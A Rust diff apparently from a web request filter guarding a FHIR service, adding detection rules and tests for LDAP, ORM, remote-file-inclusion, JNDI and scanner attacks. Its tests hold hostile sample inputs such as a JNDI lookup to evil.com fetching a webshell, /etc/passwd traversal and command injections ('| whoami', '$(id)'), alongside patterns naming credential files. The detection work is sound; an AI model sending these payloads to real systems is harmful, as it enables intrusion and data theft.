@@ -54,6 +54,12 @@ pub enum Class {
     /// Multipart parts a backend would decode differently (another charset, a transfer
     /// encoding).
     Multipart,
+    /// LDAP filter injection (`)(uid=*`, `)(|`).
+    Ldapi,
+    /// ORM lookup injection (Django-style `field__startswith`, `user__password__regex`).
+    Orm,
+    /// Vulnerability scanners that name themselves in `User-Agent`.
+    Scanner,
 }
 
 impl Class {
@@ -79,6 +85,9 @@ impl Class {
             Class::Nodejs => "nodejs",
             Class::SessionFixation => "session-fixation",
             Class::Multipart => "multipart",
+            Class::Ldapi => "ldapi",
+            Class::Orm => "orm-injection",
+            Class::Scanner => "scanner",
         }
     }
 }
@@ -104,6 +113,9 @@ pub const CLASSES: &[Class] = &[
     Class::Nodejs,
     Class::SessionFixation,
     Class::Multipart,
+    Class::Ldapi,
+    Class::Orm,
+    Class::Scanner,
 ];
 
 /// The ids of the rules that are not patterns in the tables below.
@@ -119,6 +131,8 @@ const CODE_RULES: &[&str] = &[
     "xxe-100",
     "multipart-100",
     "multipart-110",
+    "scanner-100",
+    "rfi-110",
 ];
 
 /// Every rule id.
@@ -179,7 +193,31 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "rfi-100",
         class: Class::Rfi,
-        pattern: r"\b(?:php|file|zip|phar|expect|data|glob|compress\.zlib|ogg|ssh2|rar|gopher|dict|jar|netdoc)://",
+        pattern: r"\b(?:php|file|zip|phar|expect|data|glob|compress\.zlib|ogg|ssh2|rar|gopher|dict|jar|netdoc|local_file)://|\bjar:(?:file|https?|ftp):",
+    },
+    Rule {
+        id: "jndi-110",
+        class: Class::Jndi,
+        // A JNDI name with its naming scheme, however the `${` before it was spelled
+        // (`$&lbrace;`, `$\u007b`): nothing but a lookup writes it.
+        pattern: r"jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:",
+    },
+    Rule {
+        id: "rfi-120",
+        class: Class::Rfi,
+        // A URL-looking value ending in `?`: the include's own suffix becomes a query.
+        pattern: r"^(?:file|ftps?|https?)\b[^\s]*\?+$",
+    },
+    Rule {
+        id: "ldapi-100",
+        class: Class::Ldapi,
+        pattern: LDAP_FILTER,
+    },
+    Rule {
+        id: "orm-100",
+        class: Class::Orm,
+        // A lookup spelled as a JSON key or parameter inside a text body.
+        pattern: ORM_LOOKUP_QUOTED,
     },
     Rule {
         id: "rce-100",
@@ -335,6 +373,15 @@ const VALUE_RULES: &[Rule] = &[
     },
 ];
 
+/// A filter closed and another opened: `)(uid=*`, `)(|`, `)!(sn=*`, `)&(cn=`. Spaces only
+/// around operators, so that prose with two parentheticals (`(NGSP) (n=2)`) is not one.
+const LDAP_FILTER: &str = r"\)\s*!?\s*\(\s*[&|!]|\)!?\([a-z][a-z0-9.;-]*[~<>]?=|\)\s*[&|]\s*\(";
+
+/// Django-style ORM lookups (`created_by__user__password__startswith`): a backend that
+/// passes parameter names to its ORM lets them filter on any related field.
+const ORM_LOOKUP_NAME: &str = r"[a-z0-9]__(?:i?(?:exact|contains|startswith|endswith|regex)|gte?|lte?|in|isnull|range|has_keys?|has_any_keys|contained_by|overlap|search|trigram_similar|unaccent|iso_year|iso_week_day|week_day|year|quarter|month|week|day|hour|minute|second|date|time)$";
+const ORM_LOOKUP_QUOTED: &str = r#"[a-z0-9]__(?:i?(?:exact|contains|startswith|endswith|regex)|gte?|lte?|in|isnull|range|has_keys?|has_any_keys|contained_by|overlap|search)["']\s*:"#;
+
 /// Pattern rules over a name (a query parameter's, a JSON key, a cookie's).
 const NAME_RULES: &[Rule] = &[
     Rule {
@@ -357,15 +404,40 @@ const NAME_RULES: &[Rule] = &[
         class: Class::Crlf,
         pattern: r"[\r\n]",
     },
+    Rule {
+        id: "ldapi-110",
+        class: Class::Ldapi,
+        pattern: LDAP_FILTER,
+    },
+    Rule {
+        id: "orm-110",
+        class: Class::Orm,
+        pattern: ORM_LOOKUP_NAME,
+    },
+    Rule {
+        id: "rfi-130",
+        class: Class::Rfi,
+        // Parameters of PHP applications that include the URL they are given.
+        pattern: r"^(?:_conf\[path\]|mosconfig_absolute_path|_server\[document_root\]|gallery_basedir|path\[docroot\]|appserv_root|config\[root_dir\]|includedir|include_path|phpbb_root_path)$",
+    },
 ];
 
 /// Pattern rules over a whole request path (segments are values too; these need the
 /// slashes between them).
-const PATH_RULES: &[Rule] = &[Rule {
-    id: "lfi-130",
-    class: Class::Lfi,
-    pattern: r"(?:^|/)\.(?:claude|cursor|continue|aider|roo|zed|cline|kiro|windsurf|rovodev|codex|opencode|a0proj|plandex|fabric|n8n|docker|aws|kube|gnupg|vscode|idea|svn|hg)(?:/|$)|(?:^|/)\.(?:aiignore|cursorignore|npmrc|pypirc|netrc|dockercfg)$|(?:^|/)(?:proc|sys)/[a-z]|(?:^|/)@fs/|(?:^|/)wp-content/[^/]*\.log$|\.(?:sql|bak|swp|old)(?:\.(?:zip|gz|tar|7z))?$",
-}];
+const PATH_RULES: &[Rule] = &[
+    Rule {
+        id: "lfi-130",
+        class: Class::Lfi,
+        pattern: r"(?:^|/)\.(?:claude|cursor|continue|aider|roo|zed|cline|kiro|windsurf|rovodev|codex|opencode|a0proj|plandex|fabric|n8n|docker|aws|kube|gnupg|vscode|idea|svn|hg)(?:/|$)|(?:^|/)\.(?:aiignore|cursorignore|npmrc|pypirc|netrc|dockercfg)$|(?:^|/)(?:proc|sys)/[a-z]|(?:^|/)@fs/|(?:^|/)wp-content/[^/]*\.log$|\.(?:sql|bak|swp|old)(?:\.(?:zip|gz|tar|7z))?$",
+    },
+    Rule {
+        id: "rfi-140",
+        class: Class::Rfi,
+        // A URL as a path segment (`/get/https://evil/`): a proxying or including backend
+        // fetches it.
+        pattern: r"(?:^|/)(?:https?|ftps?|file|gopher):/",
+    },
+];
 
 struct Compiled {
     values: RegexSet,
@@ -409,6 +481,10 @@ pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
             class: Class::Encoding,
         });
     }
+    // Before the patterns: `${jndi:ldap://…}` is a lookup first, a URL second.
+    if let Some(hit) = jndi(&n.folded) {
+        return Some(hit);
+    }
     if let Some(hit) = first(&compiled().values, VALUE_RULES, &n.folded) {
         return Some(hit);
     }
@@ -424,9 +500,6 @@ pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
             class: Class::Xss,
         });
     }
-    if let Some(hit) = jndi(&n.folded) {
-        return Some(hit);
-    }
     if java_base64(&n.decoded) {
         return Some(Hit {
             rule: "java-130",
@@ -434,7 +507,7 @@ pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
         });
     }
     if urls_are_fetched {
-        if let Some(hit) = ssrf(&n.folded) {
+        if let Some(hit) = ssrf(&n.folded).or_else(|| fetched_url(&n.folded)) {
             return Some(hit);
         }
     }
@@ -445,6 +518,52 @@ pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
         });
     }
     None
+}
+
+/// A URL to include from where a backend fetches URLs (`rfi-110`): a host that is an
+/// address, not a name (a dropper's server), or a file-transfer or directory scheme (`ftp://`,
+/// `tftp://`, `ldap://`). Internal addresses are `ssrf-100`'s. Like it, not applied to FHIR
+/// identifiers (which are URLs, `ftp://` ones too) nor to `Referer`.
+fn fetched_url(folded: &str) -> Option<Hit> {
+    static ADDRESS: OnceLock<Option<regex::Regex>> = OnceLock::new();
+    if !folded.contains("://") {
+        return None;
+    }
+    let address = ADDRESS
+        .get_or_init(|| {
+            regex::RegexBuilder::new(
+                r"\b(?:https?|ftps?)://(?:(?:\d{1,3}\.){3}\d{1,3}(?:[:/?#]|$)|\[?[0-9a-f]{1,4}:[0-9a-f]{0,4}:[0-9a-f:]*)|\b(?:ftps?|sftp|tftp|ldaps?)://",
+            )
+            .unicode(false)
+            .build()
+            .ok()
+        })
+        .as_ref()?;
+    address.is_match(folded).then_some(Hit {
+        rule: "rfi-110",
+        class: Class::Rfi,
+    })
+}
+
+/// A vulnerability scanner naming itself in `User-Agent` (`scanner-100`). An operator whose
+/// own authorised scans should pass excludes the rule on that header.
+pub fn scanner(user_agent: &[u8]) -> Option<Hit> {
+    static NAMES: OnceLock<Option<regex::bytes::Regex>> = OnceLock::new();
+    let names = NAMES
+        .get_or_init(|| {
+            regex::bytes::RegexBuilder::new(
+                r"\b(?:nikto|sqlmap|nessus|nmap|masscan|zgrab|arachni|nuclei|havij|acunetix|netsparker|w3af|dirbuster|dirb|gobuster|wpscan|openvas|whatweb|wfuzz|ffuf|feroxbuster|commix|xsstrike|skipfish|paros|webinspect|appscan|jaeles|zmeu|morfeus|jorgee|sqlninja|bsqlbf|fimap|interactsh)\b",
+            )
+            .case_insensitive(true)
+            .unicode(false)
+            .build()
+            .ok()
+        })
+        .as_ref()?;
+    names.is_match(user_agent).then_some(Hit {
+        rule: "scanner-100",
+        class: Class::Scanner,
+    })
 }
 
 /// The first rule that fires on a name (query parameter, JSON key, cookie name).
@@ -797,6 +916,18 @@ mod tests {
             ("../../../../etc/passwd", "lfi"),
             ("..%5c..%5cwindows%5cwin.ini", "lfi"),
             ("php://filter/convert.base64-encode/resource=index", "rfi"),
+            ("ftp://1.1.1.1/x", "rfi"),
+            ("jar:http://evil.co/b.zip!a", "rfi"),
+            ("http://66.240.183.75/crash.php", "rfi"),
+            ("https://[2001:41d0:701:1100::29c8]/gecko.php", "rfi"),
+            ("https://foo.bar?", "rfi"),
+            ("$&LBRACE;jndi:ldap://evil.com/webshell}", "jndi"),
+            ("%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.com%2Fx%7D", "jndi"),
+            ("printer)(uid=*)", "ldapi"),
+            ("*)!(sn=*", "ldapi"),
+            ("val)|(uid=*", "ldapi"),
+            ("test) ( & ", "ldapi"),
+            ("{\"username__startswith\":\"p\"}", "orm-injection"),
             ("; cat notes.txt", "rce"),
             ("| whoami", "rce"),
             ("$(id)", "rce"),
@@ -847,6 +978,54 @@ mod tests {
     }
 
     #[test]
+    fn orm_lookups_ldap_filters_and_includer_parameters_are_found_as_names() {
+        let name_hit = |n: &str| name(&normalise(n.as_bytes(), Plus::Space)).map(|h| h.rule);
+        for (attack, rule) in [
+            ("created_by__user__password__startswith", "orm-110"),
+            ("email__iendswith", "orm-110"),
+            ("data__has_key", "orm-110"),
+            ("session=value)(uid=*", "ldapi-110"),
+            ("mosConfig_absolute_path", "rfi-130"),
+            ("_CONF[path]", "rfi-130"),
+        ] {
+            assert_eq!(name_hit(attack), Some(rule), "{attack}");
+        }
+        // FHIR's own parameters and modifiers use one underscore or a colon.
+        for fine in [
+            "_lastUpdated",
+            "code:in",
+            "date",
+            "_has:Observation:patient:code",
+            "first__name",
+            "in",
+        ] {
+            assert_eq!(name_hit(fine), None, "{fine}");
+        }
+    }
+
+    #[test]
+    fn scanners_are_known_by_their_user_agent() {
+        let agent = |ua: &str| scanner(ua.as_bytes()).map(|h| h.rule);
+        for ua in [
+            "Mozilla/5.0 zgrab/0.x",
+            "sqlmap/1.8#stable (https://sqlmap.org)",
+            "Nuclei - Open-source project",
+            "Mozilla/4.0 (compatible; MSIE 7.0) Havij",
+        ] {
+            assert_eq!(agent(ua), Some("scanner-100"), "{ua}");
+        }
+        for ua in [
+            "phr-app/1.4 (iOS 17.5)",
+            "OWASP CRS test agent",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+            "python-httpx/0.27",
+            "curl/8.5.0",
+        ] {
+            assert_eq!(agent(ua), None, "{ua}");
+        }
+    }
+
+    #[test]
     fn session_ids_as_parameter_names_are_found() {
         let name_hit = |n: &str| name(&normalise(n.as_bytes(), Plus::Space)).map(|h| h.rule);
         for id in [
@@ -876,6 +1055,7 @@ mod tests {
         ] {
             assert_eq!(path_hit(attack), Some("lfi-130"), "{attack}");
         }
+        assert_eq!(path_hit("/get/https://example.com/"), Some("rfi-140"));
         for fine in [
             "/fhir/Observation/o-1",
             "/fhir/Patient/p-001/$everything",
@@ -920,6 +1100,11 @@ mod tests {
             "breath held while (1 min)",
             "the process went well",
             "blood pressure (left)(sitting)",
+            "HbA1c (NGSP) (n=2) 5.6%",
+            "https://example.org/fhir?_count=10",
+            "http://hl7.org/fhir/sid/icd-10",
+            "what is the file?",
+            "first__name",
             "cost $5 [approx] (est.)",
             "localhost",
             "report.sql is attached",
